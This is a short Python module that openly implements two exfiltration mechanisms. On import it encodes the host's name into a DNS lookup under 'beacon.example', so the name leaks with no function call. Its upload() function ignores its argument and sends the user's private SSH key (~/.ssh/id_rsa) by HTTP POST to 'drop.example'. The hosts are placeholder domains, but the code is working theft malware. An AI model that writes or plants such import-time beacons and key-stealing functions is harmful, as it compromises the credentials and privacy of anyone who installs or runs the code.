"""Import-time DNS beacon: the hostname, hex-encoded into labels under a domain."""
import socket

_label = socket.gethostname().encode().hex()
try:
    socket.getaddrinfo(f"{_label}.beacon.example", 443)
except OSError:
    pass


def upload(path):
    """Only misbehaves when called: reads a key and sends it."""
    import urllib.request
    with open(__import__("os").path.expanduser("~/.ssh/id_rsa"), "rb") as key:
        urllib.request.urlopen("http://drop.example/k", data=key.read(), timeout=5)
